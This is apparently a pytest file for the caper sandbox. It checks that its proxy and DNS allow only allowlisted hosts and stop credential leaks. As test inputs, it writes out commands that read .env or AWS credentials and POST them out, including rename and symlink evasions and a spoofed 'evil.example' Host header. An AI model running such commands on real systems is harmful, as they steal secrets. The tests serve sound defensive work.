"""Network through caper's proxy: allowlisted hosts reachable, everything else
refused and reported, credentials kept in, DNS closed. The registry is a real
HTTP server on the host's loopback (tests/registry.py); pip, npm and git are
the real programs."""
from __future__ import annotations

import ipaddress
import json
import os
import shutil
import socket
import struct
import ssl
import subprocess
import sys
import tempfile
import threading
import types

import pytest
from hypothesis import given, settings, strategies as st

from caper.config import Config, NetworkConfig
from caper.errors import ConfigError
from caper.sandbox import netdns
from caper.sandbox.allowlist import Allowlist
from caper.sandbox.netproxy import _sni
from caper.transaction import run
from registry import NPM_PACKAGE, WHEEL, Registry, command_env
from helpers.gate import stop_gate
from helpers.rootless import NOBODY, ROOT, ROOTLESS_VENV, as_nobody, need_rootless_venv, source_root


@pytest.fixture
def registry(tmp_path):
    root = tmp_path / "registry"
    root.mkdir()
    with Registry(root) as r:
        yield r


@pytest.fixture
def ws(tmp_path):
    w = tmp_path / "ws"
    w.mkdir()
    (w / "README").write_text("the project\n")
    (w / ".env").write_text("API_TOKEN=tok-9f8e7d6c5b4a\n")
    return w


@pytest.fixture
def home(tmp_path):
    h = tmp_path / "home"
    h.mkdir()
    return h


# What the proxy does after a credential read is shown where a human could
# still allow the read (AFTER_READ): otherwise the run stops at the read
# itself (tests/test_credential_stop.py), and nothing reaches the proxy after it.
AFTER_READ = {"on_unsure": "ask"}


def _run(command, ws, home, tmp_path, allow=(), approver="policy", **kw):
    return run(command, cwd=str(ws), workspace=str(ws), env=command_env(str(home)),
               state_dir=str(tmp_path / "state"), approver=approver, allow_net=allow,
               config=Config(), **kw)


def _proxied(out):
    return [n for n in out.report.network if n.call == "proxy"]


PIP = f"{sys.executable} -m pip install --index-url http://{{host}}/simple/ --target vendor demo-pkg"


def test_pip_install_from_an_allowlisted_index_succeeds_and_commits(registry, ws, home, tmp_path):
    out = _run(PIP.format(host=registry.host), ws, home, tmp_path, allow=[registry.host])
    assert out.exit_code == 0, out.stderr.text()[-2000:]
    assert out.committed, out.reason
    assert (ws / "vendor" / "demo_pkg" / "__init__.py").read_text() == "VALUE = 42\n"
    got = _proxied(out)
    assert got and all(n.allowed and n.result == "ok" for n in got)
    wheel = [n for n in got if n.path and n.path.endswith(".whl")]
    assert wheel and wheel[0].method == "GET" and wheel[0].received > len(registry.wheel)
    assert wheel[0].argv and "pip" in " ".join(wheel[0].argv)


def test_pip_install_from_a_host_not_allowlisted_fails_and_is_reported(registry, ws, home,
                                                                        tmp_path):
    out = _run(PIP.format(host=registry.host), ws, home, tmp_path, allow=["127.0.0.1:1"])
    assert out.exit_code != 0
    assert not (ws / "vendor").exists()
    assert not registry.requests       # nothing reached it
    refused = [n for n in _proxied(out) if not n.allowed]
    assert refused and refused[0].address == "127.0.0.1" and refused[0].port == registry.port
    assert refused[0].method == "GET" and refused[0].path.startswith("/simple/demo")
    assert "not allowed" in refused[0].reason


def test_no_allowlist_means_no_proxy_and_no_network(registry, ws, home, tmp_path):
    out = _run(f"curl -sS -m 5 http://{registry.host}/simple/demo-pkg/", ws, home, tmp_path)
    assert out.exit_code != 0
    assert not _proxied(out) and not registry.requests


def test_npm_install_from_an_allowlisted_registry_succeeds_and_commits(registry, ws, home,
                                                                        tmp_path):
    if not shutil.which("npm"):
        pytest.skip("npm missing")
    (ws / "package.json").write_text('{"name": "app", "version": "1.0.0"}\n')
    # No lock file: one naming a loopback registry is policy's own finding
    # (a redirected package source), not the network's.
    out = _run(f"npm install --registry http://{registry.host}/npm/ --no-audit --no-fund "
               f"--no-update-notifier --no-package-lock {NPM_PACKAGE}", ws, home, tmp_path,
               allow=[registry.host])
    assert out.exit_code == 0, out.stderr.text()[-2000:]
    assert out.committed, out.reason
    assert (ws / "node_modules" / NPM_PACKAGE / "index.js").exists()
    assert any(n.path and n.path.endswith(".tgz") for n in _proxied(out))


def test_git_clone_over_http_from_an_allowlisted_host_succeeds_and_commits(registry, ws, home,
                                                                            tmp_path):
    out = _run(f"git clone -q http://{registry.host}/git/repo.git cloned", ws, home, tmp_path,
               allow=[registry.host])
    assert out.exit_code == 0, out.stderr.text()[-2000:]
    assert out.committed, out.reason
    assert (ws / "cloned" / "README").read_text() == "from the registry\n"
    assert any(n.method == "POST" and "git-upload-pack" in (n.path or "") for n in _proxied(out))


LEAK = (f"{sys.executable} -c \"import urllib.request; d = open('.env').read(); "
        "urllib.request.urlopen(urllib.request.Request('http://{host}/upload', data=d.encode()))\"")


def test_a_script_that_read_env_cannot_post_it_to_an_allowlisted_host(registry, ws, home,
                                                                      tmp_path):
    out = _run(LEAK.format(host=registry.host), ws, home, tmp_path, allow=[registry.host],
               **AFTER_READ)
    assert registry.uploads == [] and registry.requests == []
    assert out.exit_code != 0
    assert out.decision == "block" and not out.committed
    assert "127.0.0.1" in out.reason and ".env" in out.reason
    refused = _proxied(out)[0]
    assert not refused.allowed and refused.method == "POST" and refused.path == "/upload"
    assert ".env" in refused.reason and ".env" in " ".join(refused.read_before or [])


def test_a_child_of_a_process_that_read_env_gets_no_way_out(registry, ws, home, tmp_path):
    """The shell reads .env, the curl it starts is refused."""
    out = _run(f"read -r line < .env; curl -sS -m 10 http://{registry.host}/simple/demo-pkg/",
               ws, home, tmp_path, allow=[registry.host], **AFTER_READ)
    assert registry.requests == []
    assert [n.allowed for n in _proxied(out)] == [False]


def test_a_credential_piped_from_another_process_does_not_leave(registry, ws, home, tmp_path):
    """cat reads .env, curl (its sibling, which read nothing) would send what the pipe
    holds: once the run has read a credential, nothing leaves."""
    out = _run(f"cat .env | curl -sS -m 10 --data-binary @- http://{registry.host}/upload",
               ws, home, tmp_path, allow=[registry.host], **AFTER_READ)
    assert registry.uploads == []
    got = _proxied(out)
    assert got and not any(n.result == "ok" and n.sent for n in got)
    assert ".env" in (got[0].reason or "")
    assert out.decision == "block" and "127.0.0.1" in out.reason and "proxy" in out.reason


@pytest.mark.parametrize("move", ["mv ~/.aws ~/x", "cd ~ && mv .aws y && mv y x && cd - >/dev/null",
                                  "mv ~ ~/../h2 && mkdir ~ && mv ~/../h2 ~/hh && ln -s hh/.aws ~/x",
                                  # round 5: the new name through a symlink the run made
                                  "mkdir ~/dd && ln -s ~/dd ~/L && mv ~/.aws ~/L/aw && "
                                  "ln -s dd/aw ~/x"])
def test_a_credential_read_by_a_name_a_rename_above_it_gave_does_not_leave(
        registry, ws, home, tmp_path, move):
    """Round 4: the proxy asked only of an open's own name whether it was a
    credential; renaming the directory above one (or home itself) gave it a
    name the proxy did not know, and curl sent the AWS key to the allowed
    host. It follows the run's renames back, as the report does, and a
    directory holding a credential moved anywhere taints the run (round 5:
    a new name through a symlink was kept as written, and missed)."""
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = "
                                               "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY\n")
    out = _run(f"{move}; curl -sS -m 10 --data-binary @$HOME/x/credentials "
               f"http://{registry.host}/upload", ws, home, tmp_path, allow=[registry.host],
               **AFTER_READ)
    assert registry.uploads == []
    got = _proxied(out)
    assert got and not any(n.allowed for n in got), got
    assert "aws" in (got[0].reason or "")
    assert not out.committed


def _through_tunnel(registry, ws, home, tmp_path, then: str):
    """Run a script that opens a CONNECT tunnel to the registry through caper's
    proxy (as s) and then does what `then` says: the tunnel's record."""
    (ws / "tunnel.py").write_text(
        "import socket, ssl\n"
        "s = socket.create_connection(('127.0.0.1', 3128))\n"
        f"s.sendall(b'CONNECT {registry.host} HTTP/1.1\\r\\n\\r\\n')\n"
        "assert s.recv(100).startswith(b'HTTP/1.1 200')\n" + then)
    out = _run(f"{sys.executable} tunnel.py", ws, home, tmp_path, allow=[registry.host],
               **AFTER_READ)
    return _proxied(out)[0]


def test_a_tunnel_is_cut_when_its_process_reads_credentials_after_connecting(registry, ws,
                                                                              home, tmp_path):
    tunnel = _through_tunnel(
        registry, ws, home, tmp_path,
        "s.sendall(b'GET /simple/demo-pkg/ HTTP/1.0\\r\\n\\r\\n')\n"
        "s.recv(65536)\n"
        "secret = open('.env').read().encode()\n"
        "import time; time.sleep(0.5)\n"
        "s.sendall(b'POST /upload HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(secret)"
        " + secret)\n")
    assert registry.requests[0] == ("GET", "/simple/demo-pkg/")   # the tunnel worked
    assert registry.uploads == []
    assert tunnel.result == "cut" and ".env" in tunnel.reason


RESOLVE = (f"{sys.executable} -c \"import socket, sys\n"
           "for name in sys.argv[1:]:\n"
           "    try: print(name, socket.getaddrinfo(name, 443, socket.AF_INET)[0][4][0])\n"
           "    except socket.gaierror as e: print(name, 'gaierror', e.errno)\n"
           "    try: socket.getaddrinfo(name, 443, socket.AF_INET6); print(name, 'v6')\n"
           "    except socket.gaierror: pass\" ")


def _resolved(out) -> dict[str, str]:
    return dict(line.split(" ", 1) for line in out.stdout.text().decode().splitlines()
                if " " in line)


def test_dns_answers_allowed_names_with_a_sandbox_address_and_nothing_else(ws, home, tmp_path):
    out = _run(RESOLVE + "registry.test a.pkg.test example.com", ws, home, tmp_path,
               allow=["registry.test:8443", "*.pkg.test", "127.0.0.1:1"])
    got = _resolved(out)
    assert got["registry.test"].startswith("127.83.") and got["a.pkg.test"].startswith("127.83.")
    assert got["registry.test"] != got["a.pkg.test"]
    assert got["example.com"].startswith("gaierror")          # not allowed: NXDOMAIN
    assert "v6" not in got.values()                            # allowed names have no AAAA
    dns = [n for n in out.report.network if n.call == "dns"]
    by_name = {(n.address, n.method): n for n in dns}
    assert by_name[("registry.test", "A")].result == got["registry.test"]
    assert by_name[("registry.test", "A")].allowed and "python" in by_name[
        ("registry.test", "A")].by
    assert by_name[("registry.test", "AAAA")].result == "no records"
    refused = by_name[("example.com", "A")]
    assert not refused.allowed and refused.result == "NXDOMAIN" and refused.argv
    # The resolver's own connects to the name server are caper's record, not an attempt out.
    assert not [n for n in out.report.network if n.call == "connect" and n.port == 53]
    assert out.decision == "allow", out.reason


def test_a_threaded_resolver_gets_caper_s_answers_and_takes_the_route(ws, home, tmp_path):
    """curl resolves in a thread (glibc's getaddrinfo, which sends A and AAAA
    with sendmmsg): the name resolves and its connect reaches caper's route, which
    then cannot resolve registry.test on the host. Before, a thread's connect failed
    (EPERM: the tracer could not take a thread's socket) and its lookup too."""
    script = ("import socket, threading\n"
              "def f(): print(socket.getaddrinfo('registry.test', 80, socket.AF_INET)[0][4][0])\n"
              "t = threading.Thread(target=f); t.start(); t.join()\n")
    (ws / "resolve.py").write_text(script)
    out = _run(f"{sys.executable} resolve.py; {NO_PROXY_ENV} curl -sS -m 20 "
               "http://registry.test:8443/x", ws, home, tmp_path, allow=["registry.test:8443"])
    assert out.stdout.text().startswith(b"127.83.0.1\n"), out.stderr.text()[-2000:]
    [n] = _routed(out)
    assert (n.address, n.port, n.family, n.method, n.path) == \
        ("registry.test", 8443, "http", "GET", "/x")
    assert n.result.startswith("error: resolve(registry.test)") and "curl" in n.by


def _query(name: bytes, qtype: int = 1, flags: int = 0x0100, qid: int = 0x1234) -> bytes:
    labels = b"".join(bytes([len(x)]) + x for x in name.split(b"."))
    return struct.pack("!HHHHHH", qid, flags, 1, 0, 0, 0) + labels + b"\0" + \
        struct.pack("!HH", qtype, 1)


def test_dns_wire_answers_keep_the_question_and_refuse_what_is_not_a_query():
    """The answer echoes id and question (its letter case: 0x20 randomisation),
    carries the A record; malformed messages get FORMERR or nothing, never an error."""
    q = netdns.parse(_query(b"PyPI.org"))
    assert (q.name, q.type_name) == ("pypi.org", "A")
    out = netdns.reply(q, netdns.NOERROR, "127.83.0.1")
    assert out[:2] == b"\x12\x34" and b"\x04PyPI\x03org\x00" in out
    assert struct.unpack("!HHHH", out[2:10]) == (0x8580, 1, 1, 0) and out.endswith(
        bytes([127, 83, 0, 1]))
    assert netdns.reply(q, netdns.NXDOMAIN)[3] & 0xF == netdns.NXDOMAIN
    for bad in (b"", b"\x00" * 11, _query(b"x")[:-2], _query(b"x", flags=0x8000),
                b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c\x00\x01\x00\x01"):
        with pytest.raises(ValueError):
            netdns.parse(bad)
    assert netdns.error_reply(_query(b"x")[:-2], netdns.FORMERR)[3] & 0xF == netdns.FORMERR
    assert netdns.error_reply(b"\x00" * 5, netdns.FORMERR) is None


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=300))
def test_dns_parse_takes_any_bytes_without_crashing(msg):
    try:
        q = netdns.parse(msg)
    except ValueError:
        return
    netdns.reply(q, netdns.NOERROR, "127.83.0.1")


def test_routes_give_each_allowed_name_its_address_and_ports():
    r = netdns.routes(Allowlist.parse(["pypi.org", "pypi.org:8080", "*.pkg.test:443",
                                       "127.0.0.1:9"]))
    assert [(x.host, x.ports) for x in r] == [("pypi.org", (80, 443, 8080)),
                                              ("*.pkg.test", (443,))]
    assert netdns.route_for(r, "PyPI.org.").address == "127.83.0.1"
    assert netdns.route_for(r, "a.b.pkg.test").host == "*.pkg.test"
    assert netdns.route_for(r, "pkg.test") is None and netdns.route_for(r, "evil.org") is None


def test_an_allowlist_needing_more_sockets_than_init_can_send_is_refused(ws, home, tmp_path):
    many = [f"h{i}.example" for i in range(120)]     # 80 and 443 each
    with pytest.raises(ConfigError, match="allow fewer names"):
        _run("true", ws, home, tmp_path, allow=many)


def test_the_command_s_resolver_options_are_kept(ws, home, tmp_path):
    env = {**command_env(str(home)), "RES_OPTIONS": "ndots:2"}
    out = run("echo $RES_OPTIONS", cwd=str(ws), workspace=str(ws), env=env,
              state_dir=str(tmp_path / "state"), approver="policy", allow_net=["registry.test"],
              config=Config())
    assert out.stdout.text() == b"ndots:2 single-request\n"


def test_a_wildcard_route_takes_the_host_a_client_names_and_refuses_one_that_names_none(
        registry, ws, home, tmp_path):
    _named(registry)
    rule = f"*.registry.localhost:{registry.port}"
    (ws / "raw.py").write_text(
        "import socket, sys\n"
        "s = socket.create_connection(('raw.registry.localhost', int(sys.argv[1])))\n"
        "s.sendall(b'\\x00hello')\n"
        "print(s.recv(100))\n")
    out = _run(f"{NO_PROXY_ENV} {sys.executable} -c \"import urllib.request; print("
               f"urllib.request.urlopen('http://pkgs.registry.localhost:{registry.port}"
               f"/simple/demo-pkg/').status)\"; {sys.executable} raw.py {registry.port}",
               ws, home, tmp_path, allow=[rule])
    assert out.stdout.text().startswith(b"200\n"), out.stderr.text()[-2000:]
    assert registry.requests == [("GET", "/simple/demo-pkg/")]
    ok, refused = sorted(_routed(out), key=lambda n: not n.allowed)
    assert (ok.address, ok.family, ok.allowed) == ("pkgs.registry.localhost", "http", True)
    assert not refused.allowed and refused.family == "tcp" and "names no host" in refused.reason


def test_dns_answers_at_a_loopback_name_server_as_systemd_resolved_has(ws, home, tmp_path,
                                                                       monkeypatch):
    """resolv.conf naming 127.0.0.53 (and an IPv6 server, skipped): caper binds there,
    on the sandbox's own loopback. The command writes the same resolv.conf into its
    view (an overlay: discarded with the run) so its resolver asks there."""
    conf = "nameserver ::1\nnameserver 127.0.0.53\n"
    (tmp_path / "resolv.conf").write_text(conf)
    monkeypatch.setattr(netdns, "RESOLV_CONF", str(tmp_path / "resolv.conf"))
    out = _run(f"printf '{conf}' > /etc/resolv.conf && " + RESOLVE + "registry.test other.test",
               ws, home, tmp_path, allow=["registry.test"], approver="block")
    got = _resolved(out)
    assert got["registry.test"].startswith("127.83."), out.stderr.text()[-2000:]
    assert got["other.test"].startswith("gaierror")
    assert netdns.nameservers(str(tmp_path / "resolv.conf")) == ("127.0.0.53",)


def test_no_allowlist_means_no_name_service_either(ws, home, tmp_path):
    out = _run(RESOLVE + "registry.test", ws, home, tmp_path)
    assert _resolved(out)["registry.test"].startswith("gaierror")
    assert not [n for n in out.report.network if n.call in ("dns", "proxy", "route")]


# A tool that ignores proxy variables: the variables caper sets are unset.
NO_PROXY_ENV = "env -u http_proxy -u https_proxy -u all_proxy -u HTTP_PROXY -u HTTPS_PROXY " \
               "-u ALL_PROXY "


def _named(registry) -> str:      # registry: anything with the .port of a local server
    """The registry by a name (a localhost name: caper resolves it on the host as
    RFC 6761 says, to the host's loopback), which the sandbox asks caper's DNS for
    (glibc does; curl, and so git, resolve localhost names themselves)."""
    with open("/etc/nsswitch.conf") as f:
        hosts = next((ln.split()[1:] for ln in f if ln.startswith("hosts:")), ["files", "dns"])
    if hosts[:hosts.index("dns")] != ["files"] if "dns" in hosts else True:
        pytest.skip(f"nsswitch hosts: {hosts}: *.localhost may not reach DNS in the sandbox")
    return f"registry.localhost:{registry.port}"


def _routed(out):
    return [n for n in out.report.network if n.call == "route"]


def test_pip_install_without_proxy_variables_takes_the_route(registry, ws, home, tmp_path):
    host = _named(registry)
    # (pip trusts plain HTTP from localhost, not from its subdomains.)
    out = _run(NO_PROXY_ENV + PIP.format(host=host).replace(
        "install", "install --trusted-host registry.localhost"), ws, home, tmp_path, allow=[host])
    assert out.exit_code == 0, out.stderr.text()[-2000:]
    assert out.committed, out.reason
    assert (ws / "vendor" / "demo_pkg" / "__init__.py").read_text() == "VALUE = 42\n"
    assert not _proxied(out)                           # the proxy was not asked
    got = _routed(out)
    assert got and all(n.allowed and n.result == "ok" and n.family == "http" for n in got)
    wheel = [n for n in got if (n.path or "").endswith(".whl")]
    assert wheel and wheel[0].method == "GET" and wheel[0].address == "registry.localhost"
    assert wheel[0].upstream == f"127.0.0.1:{registry.port}" and "pip" in " ".join(wheel[0].argv)
    assert ("GET", f"/files/{WHEEL}") in registry.requests
    assert any(n.call == "dns" and n.address == "registry.localhost" and n.allowed
               for n in out.report.network)


@pytest.fixture
def tls_origin(tmp_path):
    """A TLS server on the host's loopback with a certificate for registry.localhost
    (openssl); answers one GET per connection; .ca is the certificate to trust."""
    if not shutil.which("openssl"):
        pytest.skip("openssl missing")
    cert, key = tmp_path / "origin.pem", tmp_path / "origin.key"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
                    "-subj", "/CN=registry.localhost", "-addext",
                    "subjectAltName=DNS:registry.localhost", "-keyout", str(key),
                    "-out", str(cert)], check=True, capture_output=True)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    lsock = socket.create_server(("127.0.0.1", 0))
    seen: list[bytes] = []

    def serve():
        while True:
            try:
                c, _ = lsock.accept()
            except OSError:
                return
            try:
                with ctx.wrap_socket(c, server_side=True) as t:
                    seen.append(t.recv(4096))
                    t.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 6\r\n\r\nsecure")
            except (OSError, ssl.SSLError):
                pass

    threading.Thread(target=serve, daemon=True).start()
    yield types.SimpleNamespace(port=lsock.getsockname()[1], ca=str(cert), seen=seen)
    lsock.close()


TLS_GET = ("import socket, ssl, sys\n"
           "ctx = ssl.create_default_context(cafile=sys.argv[1])\n"
           "s = socket.create_connection(('registry.localhost', int(sys.argv[2])))\n"
           "t = ctx.wrap_socket(s, server_hostname=sys.argv[3])\n"
           "t.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
           "print(t.recv(100).split(b'\\r\\n\\r\\n')[-1].decode())\n")


def test_a_routed_tls_connection_is_spliced_to_its_server_name_end_to_end(tls_origin, ws,
                                                                          home, tmp_path):
    """caper reads the ClientHello's server name and splices; the client verifies the
    origin's own certificate, so caper saw only ciphertext."""
    (ws / "get.py").write_text(TLS_GET)
    host = _named(tls_origin)
    out = _run(f"{sys.executable} get.py {tls_origin.ca} {tls_origin.port} registry.localhost",
               ws, home, tmp_path, allow=[host])
    assert out.stdout.text() == b"secure\n", out.stderr.text()[-2000:]
    assert tls_origin.seen == [b"GET / HTTP/1.0\r\n\r\n"]
    [n] = _routed(out)
    assert (n.family, n.address, n.sni, n.allowed, n.result) == \
        ("tls", "registry.localhost", "registry.localhost", True, "ok")
    assert n.sent > 0 and n.received > 0 and n.method is None


def test_a_routed_connection_whose_tls_or_host_names_another_host_is_refused(
        registry, tls_origin, ws, home, tmp_path):
    _named(tls_origin)
    (ws / "get.py").write_text(TLS_GET)
    (ws / "host.py").write_text(
        "import socket, sys\n"
        "s = socket.create_connection(('registry.localhost', int(sys.argv[1])))\n"
        "s.sendall(b'POST /upload HTTP/1.1\\r\\nHost: evil.example\\r\\n"
        "Content-Length: 2\\r\\n\\r\\nhi')\n"
        "print(s.recv(100).split(b'\\r\\n')[0].decode())\n")
    out = _run(f"{sys.executable} get.py {tls_origin.ca} {tls_origin.port} evil.example; "
               f"{sys.executable} host.py {registry.port}", ws, home, tmp_path,
               allow=[f"registry.localhost:{tls_origin.port}",
                      f"registry.localhost:{registry.port}", "evil.example"])
    assert tls_origin.seen == [] and registry.requests == []
    assert out.stdout.text().endswith(b"HTTP/1.1 403 Forbidden\n")
    tls, http = sorted(_routed(out), key=lambda n: n.family == "http")
    assert not tls.allowed and tls.sni == "evil.example" and tls.address == "registry.localhost"
    assert "TLS server name is evil.example" in tls.reason
    assert not http.allowed and (http.method, http.path) == ("POST", "/upload")
    assert "HTTP Host is evil.example" in http.reason


def test_a_routed_protocol_whose_server_speaks_first_reaches_an_exact_name(ws, home,
                                                                           tmp_path):
    """ssh-like: the client waits for the server's banner; caper forwards after
    waiting for first bytes that never come, to the name the address stands for."""
    lsock = socket.create_server(("127.0.0.1", 0))
    port = lsock.getsockname()[1]
    _named(types.SimpleNamespace(port=port))

    def serve():
        c, _ = lsock.accept()
        c.sendall(b"SSH-2.0-origin\r\n")
        c.recv(100)
        c.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    try:
        out = _run(f"{sys.executable} -c \"import socket; s = socket.create_connection(("
                   f"'registry.localhost', {port})); print(s.recv(100).decode().strip()); "
                   "s.sendall(b'SSH-2.0-client')\"", ws, home, tmp_path,
                   allow=[f"registry.localhost:{port}"])
    finally:
        lsock.close()
    assert out.stdout.text() == b"SSH-2.0-origin\n", out.stderr.text()[-2000:]
    [n] = _routed(out)
    assert (n.family, n.address, n.allowed, n.result) == ("tcp", "registry.localhost", True, "ok")
    assert n.sent == len(b"SSH-2.0-client")


def test_a_routed_post_after_reading_env_is_refused_and_recorded(registry, ws, home, tmp_path):
    """Would have POSTed .env to registry.localhost/upload: refused, and the report says so."""
    host = _named(registry)
    out = _run(NO_PROXY_ENV + LEAK.format(host=host), ws, home, tmp_path, allow=[host],
               **AFTER_READ)
    assert registry.uploads == [] and registry.requests == []
    assert out.decision == "block" and not out.committed
    [n] = _routed(out)
    assert not n.allowed and (n.method, n.path) == ("POST", "/upload")
    assert ".env" in n.reason and "registry.localhost" in out.reason


def test_an_allowed_name_that_resolves_to_this_machine_is_refused(registry, ws, home, tmp_path):
    """A name is not its address: one that resolves to the host's loopback (DNS
    rebinding, an /etc/hosts entry) reaches nothing unless the rule names the address."""
    name = socket.gethostname().lower()
    if name == "localhost" or not ipaddress.ip_address(socket.gethostbyname(name)).is_loopback:
        pytest.skip(f"this machine's name {name} does not resolve to its loopback")
    host = f"{name}:{registry.port}"
    out = _run(f"curl -fsS -m 10 http://{host}/simple/demo-pkg/", ws, home, tmp_path,
               allow=[host])
    assert out.exit_code != 0 and registry.requests == []
    [n] = _proxied(out)
    assert not n.allowed and "an address of this machine" in n.reason


def test_a_connection_that_skips_the_proxy_reaches_nothing(registry, ws, home, tmp_path):
    out = _run(f"curl -sS -m 5 --noproxy '*' http://{registry.host}/", ws, home, tmp_path,
               allow=[registry.host])
    assert out.exit_code != 0 and registry.requests == []


def test_allowlist_entries_presets_and_wildcards():
    a = Allowlist.parse(["pypi", "*.example.com", "Internal.Host:8080"])
    assert a.allows("files.pythonhosted.org", 443) and not a.allows("pypi.org", 80)
    assert a.allows("a.b.example.com", 1) and not a.allows("example.com", 443)
    assert a.allows("internal.host", 8080) and not a.allows("internal.host", 8081)
    assert not a.allows("evil.com", 443)
    for bad in ("http://x", "x:0", "x:70000", "*", "a b", ""):
        with pytest.raises(ConfigError):
            Allowlist.parse([bad])


def test_config_network_allow_is_checked_and_joins_the_runs_own():
    with pytest.raises(Exception, match="not HOST"):
        NetworkConfig(allow=["http://nope"])
    merged = NetworkConfig(allow=["npm"]).allowlist(["127.0.0.1:9"])
    assert merged.allows("registry.npmjs.org", 443) and merged.allows("127.0.0.1", 9)


def test_a_bad_allow_net_is_a_clear_error_before_anything_runs(ws, home, tmp_path):
    for bad in ("pypi", {"pypi": 1}, [1]):
        with pytest.raises(ConfigError, match="allow_net"):
            _run("true", ws, home, tmp_path, allow=bad)
    with pytest.raises(ConfigError, match="not HOST"):
        _run("true", ws, home, tmp_path, allow=["ftp://x"])


ROOTLESS_RUN = r"""
import json, sys
sys.path.insert(0, sys.argv[1])
import caper
out = caper.run(sys.argv[3], cwd=sys.argv[2], workspace=sys.argv[2], approver="policy",
                on_unsure="ask", state_dir=sys.argv[4], allow_net=[sys.argv[5]],
                env={"PATH": "/usr/bin:/bin", "HOME": sys.argv[4], "PIP_NO_CACHE_DIR": "1",
                     "PIP_DISABLE_PIP_VERSION_CHECK": "1"})
print(json.dumps({"committed": out.committed, "exit": out.exit_code, "reason": out.reason,
                  "stdout": out.stdout.text().decode(),
                  "net": [n.model_dump() for n in out.report.network],
                  "proxied": [n.model_dump() for n in out.report.network if n.call == "proxy"]}))
"""


def test_rootless_pip_install_through_the_proxy_and_a_leak_refused(registry, tmp_path):
    """uid 65534: the proxy's socket is made in the user namespace's network."""
    need_rootless_venv()
    base = tempfile.mkdtemp(prefix="caper-net-rootless-")
    try:
        ws, state = os.path.join(base, "ws"), os.path.join(base, "state")
        os.mkdir(ws)
        with open(os.path.join(ws, ".env"), "w") as f:
            f.write("API_TOKEN=tok-1234abcd\n")
        for p in (base, ws, os.path.join(ws, ".env")):
            os.chown(p, NOBODY, NOBODY)

        def run_as_nobody(command: str) -> dict:
            p = as_nobody(ROOTLESS_VENV, "-c", ROOTLESS_RUN, str(source_root()), ws, command,
                           state, registry.host, timeout=180, cwd="/")
            assert p.returncode == 0, p.stderr[-3000:]
            return json.loads(p.stdout)

        out = run_as_nobody(f"{ROOTLESS_VENV} -m pip install --index-url "
                        f"http://{registry.host}/simple/ --target vendor demo-pkg")
        assert out["exit"] == 0 and out["committed"], out["reason"]
        assert os.path.exists(os.path.join(ws, "vendor", "demo_pkg", "__init__.py"))
        assert out["proxied"] and all(n["allowed"] for n in out["proxied"])
        uploads = len(registry.uploads)
        out = run_as_nobody(LEAK.format(host=registry.host).replace(sys.executable, ROOTLESS_VENV))
        assert not out["committed"] and len(registry.uploads) == uploads
        assert [n["allowed"] for n in out["proxied"]] == [False]
    finally:
        shutil.rmtree(base, ignore_errors=True)



def test_rootless_dns_and_the_route_for_a_tool_that_ignores_proxy_variables(registry,
                                                                             tmp_path):
    """uid 65534: caper's DNS (port 53, at the name server's address added to lo) and
    the route's listeners are bound in the user namespace's network."""
    need_rootless_venv()
    host = _named(registry)
    base = tempfile.mkdtemp(prefix="caper-net-rootless-")
    try:
        ws, state = os.path.join(base, "ws"), os.path.join(base, "state")
        os.mkdir(ws)
        for p in (base, ws):
            os.chown(p, NOBODY, NOBODY)
        command = (f"{NO_PROXY_ENV} {ROOTLESS_VENV} -m pip install --trusted-host "
                   f"registry.localhost --index-url http://{host}/simple/ --target vendor "
                   f"demo-pkg && " + RESOLVE.replace(sys.executable, ROOTLESS_VENV) + "other.test")
        p = as_nobody(ROOTLESS_VENV, "-c", ROOTLESS_RUN, str(source_root()), ws, command, state,
                      host, timeout=180, cwd="/")
        assert p.returncode == 0, p.stderr[-3000:]
        out = json.loads(p.stdout)
        assert out["exit"] == 0 and out["committed"], (out["reason"], out["stdout"])
        assert os.path.exists(os.path.join(ws, "vendor", "demo_pkg", "__init__.py"))
        assert "other.test gaierror" in out["stdout"]
        routed = [n for n in out["net"] if n["call"] == "route"]
        assert routed and all(n["allowed"] for n in routed) and not out["proxied"]
        # (The names it answered are listed last: pip's requests fill the list first.)
        dns = {(n["address"], n["allowed"]) for n in out["net"] if n["call"] == "dns"}
        assert ("other.test", False) in dns
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_caper_run_allow_net_dns_and_route_through_the_gate(registry, ws, home, tmp_path,
                                                            monkeypatch):
    """`caper run --allow-net NAME:PORT` answered by the gate: the name resolves and a
    client without proxy variables reaches it; both are in the report."""
    host = _named(registry)
    monkeypatch.delenv("CAPER_NO_GATE", raising=False)
    state = tmp_path / "gate-state"
    env = {**command_env(str(home)), "PYTHONPATH": str(ROOT), "CAPER_STATE_DIR": str(state),
           "CAPER_GATE_IDLE": "30"}
    get = (f"import urllib.request; open('index.html', 'wb').write(urllib.request.urlopen("
           f"'http://{host}/simple/demo-pkg/', timeout=30).read())")
    try:
        p = subprocess.run([sys.executable, "-m", "caper", "run", "--json", "--approver",
                            "policy", "--allow-net", host, "--", "env", "-u", "http_proxy",
                            "-u", "HTTP_PROXY", sys.executable, "-c", get],
                           cwd=ws, env=env, capture_output=True, timeout=120)
        doc = json.loads(p.stdout)
        assert "gate" in doc, p.stderr[-2000:]
        assert doc["committed"] and b"demo_pkg" in (ws / "index.html").read_bytes()
        net = doc["report"]["network"]
        assert [(n["allowed"], n["method"], n["path"]) for n in net if n["call"] == "route"] \
            == [(True, "GET", "/simple/demo-pkg/")]
        assert any(n["call"] == "dns" and n["address"] == "registry.localhost" and n["allowed"]
                   for n in net)
    finally:
        stop_gate(state)


def test_caper_run_allow_net_through_the_gate(registry, ws, home, tmp_path, monkeypatch):
    """The gate protocol carries the allowlist: `caper run --allow-net` answered by the gate."""
    monkeypatch.delenv("CAPER_NO_GATE", raising=False)
    state = tmp_path / "gate-state"
    env = {**command_env(str(home)), "PYTHONPATH": str(ROOT), "CAPER_STATE_DIR": str(state),
           "CAPER_GATE_IDLE": "30"}
    try:
